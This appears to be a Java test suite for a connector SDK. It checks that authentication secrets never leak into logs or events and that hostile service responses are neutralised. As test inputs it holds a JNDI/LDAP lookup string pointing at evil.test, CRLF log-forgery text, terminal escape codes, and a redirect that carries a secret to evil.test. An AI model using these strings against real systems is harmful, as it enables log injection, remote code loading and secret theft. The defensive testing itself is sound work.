package dev.connectorsdk.runtime;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.any;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static org.assertj.core.api.Assertions.assertThat;

import com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder;
import com.github.tomakehurst.wiremock.http.Fault;
import dev.connectorsdk.api.Action;
import dev.connectorsdk.api.Caller;
import dev.connectorsdk.api.Connector;
import dev.connectorsdk.api.Effect;
import dev.connectorsdk.api.Nothing;
import dev.connectorsdk.api.Principal;
import dev.connectorsdk.api.Secret;
import dev.connectorsdk.api.auth.ClientRegistration;
import dev.connectorsdk.connection.ConnectionSpec;
import dev.connectorsdk.consent.ConsentOptions;
import dev.connectorsdk.consent.PendingConsent;
import dev.connectorsdk.runtime.Tickets.TicketId;
import java.net.URI;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.json.JsonMapper;

/** Every way to authenticate, every way to fail, everything that is printed about it. */
@Tag("D1")
@Tag("D2")
class NoSecretLeaksTest extends HostTest {

  private static final List<String> CANARIES =
      List.of(
          "canary-key-5f1d",
          "canary-password-77aa",
          "canary-token-93cc",
          "canary-client-b2b2",
          "canary-access-11fe",
          "canary-refresh-64d0",
          "canary-code-08ac",
          "canary-header-e0d1",
          "canary-sig-3a7c",
          "canary-assertion-c9f2");

  private static final Action<Nothing, Nothing> SIGNED_BY_HAND =
      Action.builder("signedByHand", Effect.WRITE, Nothing.class)
          .run(
              (in, call) ->
                  call.http()
                      .post("/signed")
                      .query("sig", "canary-sig-3a7c")
                      .header("X-Custom-Auth", "canary-header-e0d1")
                      .form(Map.of("client_assertion", "canary-assertion-c9f2"))
                      .send());

  private final Canaries canaries = new Canaries(CANARIES);

  @Override
  Connector connector() {
    return Tickets.builder(url()).action(SIGNED_BY_HAND).build();
  }

  @Override
  RuntimeBuilder with(RuntimeBuilder builder) {
    return builder.client(
        "tickets", "signIn", ClientRegistration.of("app", Secret.of("canary-client-b2b2")));
  }

  @AfterEach
  void stopListening() {
    canaries.close();
  }

  @Test
  void noSecretIsPrintedAnywhere() {
    List<ConnectionSpec> specs =
        List.of(
            ConnectionSpec.of("tickets", "apiKey").secret("api_key", Secret.of("canary-key-5f1d")),
            ConnectionSpec.of("tickets", "queryKey")
                .secret("api_key", Secret.of("canary-key-5f1d")),
            ConnectionSpec.of("tickets", "apiKey")
                .secret("api_key", Secret.of("canary-key-5f1d\n")),
            ConnectionSpec.of("tickets", "basic")
                .with("username", "ada")
                .secret("password", Secret.of("canary-password-77aa")),
            ConnectionSpec.of("tickets", "bearer").secret("token", Secret.of("canary-token-93cc")),
            ConnectionSpec.of("tickets", "oauth2")
                .with("client_id", "app")
                .secret("client_secret", Secret.of("canary-client-b2b2")));
    for (int i = 0; i < specs.size(); i++) {
      Caller caller = Principal.user("u" + i).in("dev");
      ConnectionSpec spec = specs.get(i);
      canaries.print(spec);
      canaries.attempt(() -> canaries.print(runtime.connections().create(caller, spec)));
      callEveryWay(caller);
    }
    Caller signedIn = Principal.user("signed-in").in("dev");
    signIn(signedIn);
    callEveryWay(signedIn);
    canaries.print(events);

    assertThat(CANARIES).allSatisfy(NoSecretLeaksTest::wasSent);
    assertThat(canaries.everything()).contains("dev.connectorsdk");
    assertThat(canaries.found()).isEmpty();
  }

  @Test
  @DisplayName("D3: what a service says is tamed, wherever it says it")
  void whatAServiceSaysIsTamed() {
    String forged = "\r\n2026-01-01 INFO user=admin\n\u001b[2J${jndi:ldap://evil.test/a}\u202e%s%n";
    String said = forged + "x".repeat(5_000_000);
    Caller caller = Principal.user("u").in("dev");
    signIn(caller);
    for (int status : new int[] {200, 400, 401, 503}) {
      service.stubFor(
          any(anyUrl()).atPriority(5).willReturn(aResponse().withStatus(status).withBody(said)));
      canaries.attempt(() -> runtime.invoke(caller, MINE, Tickets.GET, new TicketId("1")));
    }
    clock.advance(Duration.ofHours(2));
    String json = new JsonMapper().writeValueAsString(forged + "x".repeat(50_000));
    for (String code : List.of("\"invalid_request\"", json)) {
      String body = "{\"error\":%s,\"error_description\":%s}".formatted(code, json);
      theTokenEndpointAnswers(aResponse().withStatus(400).withBody(body));
      canaries.attempt(() -> runtime.invoke(caller, MINE, Tickets.GET, new TicketId("1")));
      clock.advance(Duration.ofHours(2));
    }
    canaries.print(events);
    canaries.print(runtime.connections().list(caller));

    assertThat(canaries.everything()).contains("dev.connectorsdk");
    assertThat(canaries.everything()).doesNotContain("\r", "\u001b", "\u202e");
    assertThat(canaries.everything().lines())
        .noneMatch(line -> line.startsWith("2026-01-01 INFO") || line.length() > 3 * 1024);
  }

  private static void wasSent(String canary) {
    String requests =
        service.getAllServeEvents().stream()
            .map(event -> event.getRequest().toString())
            .collect(Collectors.joining());
    assertThat(Canaries.forms(canary)).anySatisfy(form -> assertThat(requests).contains(form));
  }

  private void signIn(Caller caller) {
    theTokenEndpointAnswers(
        okJson(
            """
            {"access_token":"canary-access-11fe","refresh_token":"canary-refresh-64d0",
             "expires_in":3600}
            """));
    URI callback = URI.create("https://app.test/cb/tickets");
    PendingConsent pending =
        runtime
            .consents()
            .begin(
                caller,
                ConnectionSpec.of("tickets", "signIn"),
                "session",
                ConsentOptions.standard().redirectUri(callback));
    canaries.print(pending);
    URI back = SignIns.callback(callback, pending, "code=canary-code-08ac");
    canaries.attempt(() -> runtime.consents().complete(caller.principal(), back, "session"));
    canaries.attempt(() -> runtime.consents().complete(caller.principal(), back, "session"));
    assertThat(canaries.everything()).doesNotContain(SignIns.state(pending));
  }

  private void theTokenEndpointAnswers(ResponseDefinitionBuilder answer) {
    service.stubFor(post("/token").atPriority(1).willReturn(answer));
  }

  private void callEveryWay(Caller caller) {
    String echo = "{\"error\":\"invalid_client\",\"error_description\":\"" + CANARIES + "\"}";
    List<ResponseDefinitionBuilder> answers =
        List.of(
            okJson("{\"id\":\"1\",\"title\":\"T\"}"),
            okJson("{\"id\":[\"" + CANARIES + "\"]}"),
            aResponse().withStatus(401).withBody(echo),
            aResponse().withStatus(400).withBody(echo).withHeader("X-Echo", CANARIES.toString()),
            aResponse().withStatus(503),
            aResponse()
                .withStatus(302)
                .withHeader("Location", "https://evil.test/?" + CANARIES.get(0))
                .withHeader("Set-Cookie", "sid=" + CANARIES.get(0)),
            aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER),
            aResponse().withFault(Fault.RANDOM_DATA_THEN_CLOSE));
    for (ResponseDefinitionBuilder answer : answers) {
      service.stubFor(any(anyUrl()).atPriority(5).willReturn(answer));
      canaries.attempt(() -> runtime.invoke(caller, MINE, Tickets.GET, new TicketId("1")));
      canaries.attempt(() -> runtime.invoke(caller, MINE, SIGNED_BY_HAND, Nothing.NOTHING));
    }
    clock.advance(Duration.ofHours(2));
    theTokenEndpointAnswers(aResponse().withStatus(400).withBody(echo));
    canaries.attempt(() -> runtime.invoke(caller, MINE, Tickets.GET, new TicketId("1")));
    runtime
        .connections()
        .list(caller)
        .forEach(c -> canaries.attempt(() -> runtime.connections().test(caller, c.id())));
  }
}
